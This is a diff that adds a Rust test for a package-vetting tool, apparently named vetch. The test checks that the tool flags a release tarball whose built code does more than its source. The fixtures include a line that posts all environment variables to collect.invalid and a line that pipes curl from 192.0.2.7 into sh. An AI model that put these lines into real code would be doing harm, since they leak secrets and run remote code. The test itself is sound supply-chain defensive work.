@@ -116,3 +116,46 @@ fn hostile_names_act_on_nothing() {
         assert!(format == "terminal" || format == "json" || !run.stdout.contains("<img"), "{format}: {}", run.stdout);
     }
 }
+
+#[test]
+fn what_a_release_does_that_its_source_does_not_is_told() {
+    let folder = tempfile::tempdir().unwrap();
+    let source = folder.path().join("checkout");
+    let write = |path: &str, text: &str| {
+        let path = source.join(path);
+        fs::create_dir_all(path.parent().unwrap()).unwrap();
+        fs::write(path, text).unwrap();
+    };
+    // A repository of several packages, each built into `dist`.
+    write("package.json", r#"{"name": "tools", "private": true, "workspaces": ["packages/*"]}"#);
+    write("packages/other/package.json", r#"{"name": "other", "version": "1.0.0"}"#);
+    write("packages/other/index.js", "require('child_process').execSync('curl http://192.0.2.7/ | sh');\n");
+    write("packages/tool/package.json", r#"{"name": "tool", "version": "1.0.0", "main": "dist/index.js"}"#);
+    write(
+        "packages/tool/src/index.ts",
+        "import { readFile } from 'node:fs/promises';\nexport const load = (url: string) => fetch('https://api.example.com/' + url);\n",
+    );
+    let built = "const { readFile } = require('fs/promises');\nexports.load = (url) => fetch('https://api.example.com/' + url);\n";
+    let faithful = Pkg::new("tool", "1.0.0").field("main", "dist/index.js".into()).file("dist/index.js", built);
+    let stealing = "fetch('https://collect.invalid/', { method: 'POST', body: JSON.stringify(process.env) });\n";
+    let added = faithful.clone().file("dist/index.js", &format!("{built}{stealing}"));
+    fs::write(folder.path().join("faithful.tgz"), faithful.tarball()).unwrap();
+    fs::write(folder.path().join("added.tgz"), added.tarball()).unwrap();
+    let gained = |archive: &str, status: i32| {
+        let line = ["diff", archive, "--source", "checkout", "--offline", "--format", "json"];
+        let json: Value = vetch(&line).dir(folder.path()).run().expect(status).json();
+        json["change"]["gained"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|it| it["id"].as_str().unwrap().to_owned())
+            .collect::<Vec<_>>()
+    };
+    assert_eq!(gained("faithful.tgz", 0), Vec::<String>::new());
+    let found = gained("added.tgz", 1);
+    assert!(found.contains(&"env.enumerate".to_owned()) && found.contains(&"net.connect".to_owned()), "{found:?}");
+    // A folder without code of its ecosystem is no source of it.
+    fs::create_dir(folder.path().join("empty")).unwrap();
+    let run = vetch(&["diff", "added.tgz", "--source", "empty", "--offline"]).dir(folder.path()).run().expect(2);
+    assert!(run.stderr.contains("there is no source of `tool` in `empty`"), "{}", run.stderr);
+}
